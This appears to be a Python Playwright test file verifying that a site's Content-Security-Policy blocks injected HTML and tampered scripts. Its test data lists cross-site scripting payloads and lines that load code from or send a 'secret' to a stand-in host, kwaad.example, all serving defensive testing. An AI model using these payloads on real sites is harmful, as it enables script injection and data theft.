"""The Content-Security-Policy of every page lets only the site's own files run.

That all tools work under it is proved by all other tests in a browser: see the fixture `page`.
"""

from collections.abc import Callable

import pytest
from playwright.sync_api import Page, Route, expect

from tests.site.reading import SitePage
from tests.site.visiting import CASE, Opener, watch

POLICY = {
    "default-src": "'none'",
    "script-src": "'self' 'wasm-unsafe-eval'",
    "style-src": "'self'",
    "img-src": "'self' data:",
    "font-src": "'self'",
    "connect-src": "'self'",
    "worker-src": "'self'",
    "manifest-src": "'self'",
    "base-uri": "'none'",
    "form-action": "'self'",
    "trusted-types": "default",
    "require-trusted-types-for": "'script'",
}

# Each would call `tripped`, change the page or take something along, if the policy let it.
INJECTED = {
    "script": "<script>tripped()</script>",
    "event": "<img src=bestaat-niet.png onerror=tripped()>",
    "frame": "<iframe srcdoc='<script>parent.tripped()</script>'></iframe>",
    "foreign script": "<script src=https://kwaad.example/x.js></script>",
    "foreign image": "<img src=https://kwaad.example/x.png>",
    "foreign style": "<link rel=stylesheet href=https://kwaad.example/x.css>",
    "style": "<style>main { display: none }</style>",
    "style attribute": "<p style='position:fixed;inset:0;background:red'>weg</p>",
    "base": "<base href=https://kwaad.example/>",
    "object": "<object data=https://kwaad.example/x.html></object>",
    "svg": "<svg><script>tripped()</script></svg>",
}
# What a script of the site itself could be tricked into.
TRICKED = {
    "eval": "setTimeout('tripped()')",
    "function": "new Function('tripped()')()",
    "html": "document.body.innerHTML = '<img src=x onerror=tripped()>'",
    "request": "await fetch('https://kwaad.example/?geheim')",
    "socket": "new WebSocket('wss://kwaad.example/')",
    "script address": "document.head.append(Object.assign(document.createElement('script'),"
    " { src: 'https://kwaad.example/x.js' }))",
    "worker": "new Worker('../../assets/js/main.mjs')",
}


def test_every_page_carries_the_policy_before_anything_it_governs(
    pages: dict[str, SitePage],
) -> None:
    for path, page in pages.items():
        charset, policy, *_ = page.root.one("head").all("meta", "script", "link", "style")
        assert "charset" in charset.attributes, path
        assert policy.attributes["http-equiv"] == "Content-Security-Policy", path
        directives = [part.split(" ", 1) for part in policy.attributes["content"].split("; ")]
        assert dict(directives) == POLICY, path
        assert page.root.one("meta", name="referrer").attributes["content"].startswith("strict-")


class Attempt:
    """A visit to a page in which one file of the site has been tampered with."""

    def __init__(self, tab: Page, file: str, tamper: Callable[[str], str]) -> None:
        self.tripped: list[str] = []
        self.reached: list[str] = []
        tab.expose_function("tripped", lambda: self.tripped.append(file))
        tab.route("https://kwaad.example/**", self._reach)
        self.visit = watch(tab)

        def change(route: Route) -> None:
            response = route.fetch()
            route.fulfill(response=response, body=tamper(response.text()))

        tab.route(f"**/{file}", change)
        tab.goto(CASE)
        tab.wait_for_load_state("networkidle")

    def _reach(self, route: Route) -> None:
        self.reached.append(route.request.url)
        route.abort()


@pytest.mark.parametrize("html", INJECTED.values(), ids=INJECTED.keys())
def test_what_gets_into_a_page_by_mistake_does_nothing(page: Opener, html: str) -> None:
    tab = page(guarded=False)
    attempt = Attempt(tab, CASE, lambda text: text.replace("</h1>", f"</h1>{html}", 1))

    assert any("Content Security Policy" in message for message in attempt.visit.messages)
    assert attempt.tripped == attempt.reached == []
    expect(tab.locator("main")).to_be_visible()


@pytest.mark.parametrize("code", TRICKED.values(), ids=TRICKED.keys())
def test_a_script_of_the_site_cannot_be_tricked(page: Opener, code: str) -> None:
    script = f"try {{ {code} }} catch (error) {{ console.error(String(error)) }}\n"
    attempt = Attempt(page(guarded=False), "assets/js/main.mjs", lambda text: script + text)

    assert attempt.visit.messages != []
    assert attempt.tripped == attempt.reached == []
